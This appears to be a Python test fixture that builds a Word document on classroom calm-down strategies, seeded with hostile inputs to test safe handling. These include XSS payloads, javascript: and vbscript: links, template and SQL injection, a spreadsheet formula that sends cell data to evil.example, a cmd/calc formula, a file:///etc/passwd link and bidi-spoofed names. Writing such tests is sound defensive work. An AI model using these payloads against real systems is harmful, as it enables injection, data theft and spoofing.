"""Nothing in, a Word document whose every part is meant to do harm where it is shown, out."""

from tests.support.word import bullets, docx, footnote, link, lists, note_mark, p, style

FILE = "=cmd '{{ 7 * 7 }}' <img src=x onerror=alert(1)> \u202egnp & \"q\" #1?.docx"
TITLE = "</title><script>alert(2)</script> {% raw %} =1+1"
HEADING = "Calm places </script><svg onload=alert(3)> \"a\" & 'b' | {{ 7 * 7 }} ]]> <!-- \u202eht"
LEAD_IN = "Staff will <b onclick=alert(4)>offer</b> {{ lead }}, such as:"
LONG = "W" * 5000

TEXTS = (
    "Offer a calm corner <script>alert(5)</script> to anyone who asks for one.",
    "Offer </script></style></textarea><img src=x onerror=alert(6)> a quiet table.",
    'Keep a timer in sight " autofocus onfocus="alert(7) of every pupil.',
    "Use {{ 7 * 7 }} {% include 'x' %} ${alert(8)} `#{7*7}` cards at the door.",
    '=HYPERLINK("https://evil.example/"&A1,"Give time to settle after lunch")',
    "+Give extra time to settle after every change of room.",
    "-1+1 Give pupils a signal for needing a break.",
    "@SUM(1+1)*cmd|' /C calc'!A0 Give one instruction at a time.",
    "\tGive pupils\ta tab to jump to.",
    "Offer \u202eenoyna ot moor teiuq a\u202c and \u2066isolated\u2069 \u200fmarks \u200bwith\ufeff care.",
    f"Offer {LONG} to pupils who need it.",
    "Teach '); DROP TABLE strategies; -- \\'; SELECT 1 OR 1=1 carefully.",
    "Link |cards| together ]]> <!-- <![CDATA[ &lt;b&gt; &#x3C;i&#x3E; and talk.",
    "Offer a soft\nbreak between\ntasks \u2028 each \u2029 day.",
    "Praise 👩‍👩‍👧‍👦 effort 𝔘𝔫𝔦 e\u0301\u0301\u0301 at once.",
    "Model __proto__ constructor toString hasOwnProperty words aloud.",
    "Explain _x000D_ _xD83D_ %0d%0a \\u003cscript\\u003e &nbsp; signs on the wall.",
    "اعرض جدولاً زمنياً مرئياً for the pupil every morning.",
)
"""Bullets, as an author could type or paste them."""

LINKS = {
    "rId91": "javascript:alert(9)",
    "rId92": "data:text/html,<script>alert(10)</script>",
    "rId93": "https://ok.example/?a=<script>alert(11)</script>&b=\"'|{{ 7 * 7 }}",
    "rId94": "vbscript:alert(12)",
    "rId95": "file:///etc/passwd",
    "rId96": "//evil.example/pixel",
    "rId97": "JaVaScRiPt\t:alert(13)",
    "rId98": "https://ok.example/calm\u202egpj",
}


def hostile_document(*more: str) -> bytes:
    """Return it; its headings settle everything below them, so that much of it is advice."""
    linked = [
        p(f"Share page {n} with ", link(one, f"the <i>page</i> {n} =1+1"), " at home.", num=(1, 0))
        for n, one in enumerate(LINKS, start=1)
    ]
    return docx(
        p(f"Title {TITLE}", style="Title"),
        p("Social, emotional and mental health", style="Heading1"),
        p("Strategies", style="Heading2"),
        p(HEADING, style="Heading3"),
        p(LEAD_IN),
        *(p(text, num=(1, 0)) for text in (*TEXTS, *more)),
        p("Share a ", note_mark(1), "note with families every week.", num=(1, 0)),
        *linked,
        styles="".join(style(f"Heading{n}", f"heading {n}") for n in (1, 2, 3)),
        numbering=lists(bullets()),
        footnotes=footnote(1, p("A note <script>alert(14)</script> =1+1 {{ 7 * 7 }}")),
        headers=[p("Top <img src=x onerror=alert(15)>")],
        footers=[p("=1+1 {{ 7 * 7 }}")],
        links=LINKS,
        title=TITLE,
        modified="2026-02-01T09:00:00Z",
    )
